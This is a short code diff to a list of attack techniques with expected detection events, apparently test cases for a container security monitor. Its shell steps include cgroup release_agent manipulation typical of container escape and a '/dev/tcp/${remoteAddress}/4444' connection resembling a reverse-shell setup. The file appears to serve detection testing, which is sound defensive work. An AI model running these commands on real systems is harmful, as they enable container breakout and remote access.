@@ -234,10 +234,11 @@ export const techniques = [
     name: "Name spaces are left and a file system is mounted",
     steps: [
       `echo $$ > /mnt/container/cgroup.procs; cp /bin/true /tmp/inner; chmod 700 /tmp/inner; /tmp/inner
-       mv /tmp/inner /tmp/inner.old; rm /tmp/inner.old
+       mv /tmp/inner /tmp/inner.old; rm /tmp/inner.old; touch /tmp/release_agent; echo /tmp/inner > /tmp/release_agent
        bash -c 'exec 3<>/dev/tcp/${remoteAddress}/4444' ; perl programs/calls.pl namespaces`,
     ],
     expect: [
+      { action: "open", "file.name": "release_agent", "container.id": "*" },
       { action: "unshare" },
       { action: "setns" },
       { action: "mount" },
